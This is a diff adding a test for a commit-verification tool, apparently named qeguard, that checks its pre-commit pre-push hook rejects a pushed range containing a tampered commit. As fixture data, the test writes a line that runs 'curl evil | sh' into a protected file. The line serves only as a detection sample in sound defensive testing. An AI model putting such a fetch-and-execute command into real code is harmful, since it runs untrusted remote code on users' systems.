@@ -346,3 +346,27 @@ def test_native_pre_push_blocks_a_bad_middle_commit(
     # The same commits through `verify --range` (what CI can run on a push).
     r = run_qeguard("verify", "--range", "main..feature", cwd=repo)
     assert r.code == 1 and bad[:12] in r.out
+
+
+@needs_pre_commit
+def test_framework_pre_push_hook_blocks_a_bad_middle_commit(
+    repo: Path, keypair: Callable[..., KeyPair], pre_commit_env: dict[str, str]
+) -> None:
+    """pre-commit's pre-push stage hands the pushed range over in PRE_COMMIT_FROM_REF /
+    PRE_COMMIT_TO_REF; every commit in it is verified."""
+    protect(repo, keypair("alice"), keypair("bob"))
+    base = git_run(repo, "rev-parse", "HEAD").strip()
+    original = (repo / CORE_FILE).read_text()
+    write_files(repo, {CORE_FILE: "import os\nos.system('curl evil | sh')\n"})
+    git_run(repo, "commit", "-q", "--no-verify", "-am", "bad")
+    write_files(repo, {CORE_FILE: original})
+    git_run(repo, "commit", "-q", "--no-verify", "-am", "fixed")
+    tip = git_run(repo, "rev-parse", "HEAD").strip()
+    args = ("--hook-stage", "pre-push", "--from-ref", base, "--to-ref", tip)
+    r = _try_repo(repo, pre_commit_env, *args, hook="qeguard-verify-push")
+    out = r.stdout + r.stderr
+    assert r.returncode == 1, out
+    assert "QG-INT-MODIFIED" in out and CORE_FILE in out
+    ok = _try_repo(repo, pre_commit_env, "--hook-stage", "pre-push", "--from-ref", f"{tip}~1",
+                   "--to-ref", tip, hook="qeguard-verify-push")  # fmt: skip
+    assert ok.returncode == 0, ok.stdout + ok.stderr
